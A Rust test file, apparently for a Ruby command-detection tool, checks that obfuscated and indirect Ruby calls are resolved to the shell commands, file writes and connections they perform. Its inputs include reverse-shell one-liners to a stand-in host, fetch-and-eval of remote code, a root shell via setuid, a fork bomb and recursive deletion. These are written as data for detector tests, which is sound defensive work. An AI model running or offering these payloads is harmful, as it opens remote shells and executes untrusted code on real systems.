//! Ruby.

use super::check;
use aegish_profiles::Lang::Ruby;

#[test]
fn commands_are_found_in_every_spelling() {
    check(
        Ruby,
        &[
            ("exec \"/bin/sh\"", &["shell /bin/sh"]),
            ("system('ls', '-l')", &["argv ls|-l"]),
            ("puts `id`", &["shell id"]),
            ("puts %x(uname -a)", &["shell uname -a"]),
            ("c = 'id'; system(\"#{c} -u\")", &["shell id -u"]),
            ("Kernel.exec('id')", &["shell id"]),
            ("Kernel.send(:system, 'id')", &["shell id"]),
            ("send(:exec, 'id')", &["shell id"]),
            ("IO.popen(['ls', '-l']).read", &["argv ls|-l"]),
            ("IO.popen('id') { |io| puts io.read }", &["shell id"]),
            ("open('|id').read", &["shell id"]),
            ("require 'open3'; Open3.capture2('id')", &["shell id"]),
            ("spawn({'A'=>'b'}, 'id')", &["shell id"]),
            ("require 'pty'; PTY.spawn('/bin/sh')", &["shell /bin/sh"]),
            ("Process::Sys.setuid(0); exec '/bin/sh'", &["user 0", "shell /bin/sh"]),
            ("eval 'puts 1'", &["eval ruby puts 1"]),
            ("instance_eval('puts 1')", &["eval ruby puts 1"]),
            ("load '/srv/x.rb'", &["script ruby /srv/x.rb"]),
            ("require './x'", &["script ruby ./x"]),
            ("require_relative 'x'", &["script ruby x"]),
            ("system(['756e616d65'].pack('H*'))", &["shell uname"]),
            ("system('dW5hbWU='.unpack('m')[0])", &["shell uname"]),
            ("system('dW5hbWU='.unpack1('m'))", &["shell uname"]),
            ("require 'base64'; system(Base64.decode64('dW5hbWU='))", &["shell uname"]),
            ("system [105,100].map{|c|c.chr}.join", &["shell id"]),
            ("system [105,100].map(&:chr).join", &["shell id"]),
            ("system 'di'.reverse", &["shell id"]),
            ("%w(id who).each { |c| system c }", &["shell {id|who}"]),
            ("system ENV['TARGET']", &["shell /srv/data.bin"]),
            ("system ARGV[0]", &["shell first-arg"]),
            ("require 'fiddle'; Fiddle.dlopen('./x.so')", &["load ./x.so"]),
            ("loop { fork }", &["exhaust"]),
            ("system <<~X\n  echo hi\nX\n", &["shell   echo hi\n"]),
        ],
    );
}

#[test]
fn files_and_connections() {
    check(
        Ruby,
        &[
            ("puts File.read('/etc/hosts')", &["read /etc/hosts"]),
            ("puts File.read \"/etc/hosts\"", &["read /etc/hosts"]),
            ("File.open('/tmp/x', 'w+') { |f| f.write('DATA') }", &["write /tmp/x <- DATA"]),
            ("File.open('/tmp/x', 'a') do |f|\n f << 'DATA'\nend", &["append /tmp/x <- DATA"]),
            ("File.write('/tmp/x', 'DATA')", &["write /tmp/x <- DATA"]),
            ("File.delete('/tmp/x')", &["delete /tmp/x"]),
            ("require 'fileutils'; FileUtils.rm_rf('/srv/x')", &["tree /srv/x"]),
            ("File.chmod(04755, '/tmp/x')", &["mode 4755 /tmp/x"]),
            ("FileUtils.cp('/etc/hosts', '/tmp/h')", &["copy /etc/hosts -> /tmp/h"]),
            (
                "require 'socket'; spawn('sh',[:in,:out,:err]=>TCPSocket.new('h.example',99))",
                &["connect h.example 99", "attach", "shell sh"],
            ),
            (
                "exit if fork;c=TCPSocket.new(\"h.example\",\"99\");while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end",
                &["connect h.example 99", "received"],
            ),
            (
                "c=TCPSocket.new('h.example',99);loop{c.gets.chomp!;IO.popen($_,?r){|io|c.print io.read}}",
                &["connect h.example 99", "received"],
            ),
            (
                "require 'open-uri'; d = URI.open('http://h.example/x'); IO.copy_stream(d, '/tmp/x')",
                &["fetch http://h.example/x", "write /tmp/x <- ‹received›"],
            ),
            (
                "require 'open-uri'; eval open('http://h.example/x').read",
                &["fetch http://h.example/x", "received"],
            ),
            (
                "require 'net/http'; eval Net::HTTP.get(URI('http://h.example/x'))",
                &["fetch http://h.example/x", "received"],
            ),
            ("TCPServer.new(9009).accept", &["listen  9009"]),
            ("httpd", &["serve  first-arg"]),
        ],
    );
}

#[test]
fn harmless_look_alikes_give_nothing() {
    check(
        Ruby,
        &[
            ("puts 'system(1)'", &["print system(1)\n"]),
            ("# exec 'x'", &[]),
            ("puts ARGV.inspect", &[]),
            ("puts 1 + 1", &["print 2\n"]),
            ("h = {system: 1, exec: 2}; puts h[:exec]", &["print 2\n"]),
            ("puts $_ if /exec (.*)/", &[]),
            ("require 'json'; puts JSON.parse(STDIN.read)['a']", &[]),
            ("p %w[exec system]", &[]),
            ("puts RUBY_VERSION", &[]),
            ("Gem::Specification.each { |s| puts s.name }", &[]),
            ("db.exec('select 1')", &[]),
            ("puts [1,2,3].map { |x| x * 2 }.inspect", &[]),
        ],
    );
}
